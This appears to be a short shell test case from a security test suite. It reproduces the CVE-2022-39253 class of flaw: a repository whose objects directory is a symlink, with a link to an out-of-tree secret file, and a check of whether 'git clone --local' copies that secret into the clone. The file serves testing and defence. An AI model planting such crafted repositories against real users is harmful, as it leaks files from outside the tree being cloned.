# SPDX-License-Identifier: LGPL-2.1-or-later
# A local clone of a repository whose objects are elsewhere.
# The class of CVE-2022-39253.

tool='git clone'
what='objects/ is a link to outside'
kind=control
needs='git'

setup()
{
	git init -q src
	echo x >src/f
	git -C src add f
	git -C src commit -qm1
	mv src/.git/objects objects
	ln -s ../../objects src/.git/objects
	ln -s ../out/secret objects/zz
}

attack()
{
	trusted git clone -q --local src root/c
}

escaped()
{
	grep -q SECRET root/c/.git/objects/zz
}
